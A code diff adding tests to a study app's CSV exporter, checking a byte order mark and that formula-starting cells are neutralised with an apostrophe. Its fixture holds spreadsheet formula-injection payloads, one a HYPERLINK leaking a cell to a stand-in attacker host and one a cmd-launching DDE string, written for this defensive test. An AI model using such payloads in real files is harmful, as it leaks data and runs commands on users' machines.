@@ -91,3 +91,63 @@ def test_no_database_yet_gives_a_header_only(tmp_path: Path) -> None:
     code, output, rows = _export(tmp_path, tmp_path / "fresh", qdir)
     assert code == 0 and rows == [list(COLUMNS)] and "Exported 0 answers" in output
     assert not (tmp_path / "fresh" / "studyapp.sqlite3").exists()
+
+
+def test_the_file_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
+    """Spreadsheets read the file as UTF-8 only with the BOM (reading with utf-8-sig would accept either)."""
+    qdir = tmp_path / "questions"
+    qdir.mkdir()
+    _export(tmp_path, tmp_path / "fresh", qdir)
+    assert (tmp_path / "history.csv").read_bytes().startswith(b"\xef\xbb\xbfanswered_at_utc,attempt_id,")
+
+
+HOSTILE = """\
+deck: every-type
+title: Shared deck
+questions:
+  - id: "-2-3"
+    type: text
+    prompt: '=HYPERLINK("http://evil.invalid/?leak="&A1, "Click for the answer")'
+    answer: "@SUM(1+1)"
+  - id: plain
+    type: text
+    prompt: "+cmd|' /C calc'!A0"
+    answer: "\\tTab first"
+  - id: safe
+    type: text
+    prompt: "What is 2 = 2?"
+    answer: "a-b"
+"""
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
+    qdir = tmp_path / "questions"
+    qdir.mkdir()
+    (qdir / "shared.yaml").write_text(HOSTILE, encoding="utf-8")
+    data = DataPaths(tmp_path / "data")
+    data.root.mkdir()
+    store = open_store(data.database, backups_dir=data.backups, now=T0).store
+    try:
+        for minute, (qid, response) in enumerate([("-2-3", '"=1+1"'), ("plain", '"x"'), ("safe", '"a-b"')]):
+            store.record_attempt(Attempt("every-type", qid, "h", Mode.QUIZ, response, Outcome.WRONG, 0.0, 500,
+                                         T0 + timedelta(minutes=minute)))
+    finally:
+        store.close()
+    code, output, rows = _export(tmp_path, data.root, qdir)
+    assert code == 0, output
+    table = [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]
+    assert [(r["question_id"], r["question"], r["right_answer"]) for r in table] == [
+        ("'-2-3", "'=HYPERLINK(\"http://evil.invalid/?leak=\"&A1, \"Click for the answer\")", "'@SUM(1+1)"),
+        ("plain", "'+cmd|' /C calc'!A0", "'\tTab first"),
+        ("safe", "What is 2 = 2?", "a-b"),  # a formula character later in the cell is harmless
+    ]
+    assert [r["response"] for r in table] == ['"=1+1"', '"x"', '"a-b"']  # JSON text starts with a quote
+    formula_start = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(cell.startswith(formula_start) for row in rows for cell in row)
+
+
+def test_neutralise_covers_every_formula_start() -> None:
+    from studyapp.interop.csvexport import neutralise
+
+    assert [neutralise(c + "1") for c in "=+-@\t\r"] == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1"]
+    assert [neutralise(c) for c in ("", "1", "a=1", " =1", "'=1")] == ["", "1", "a=1", " =1", "'=1"]
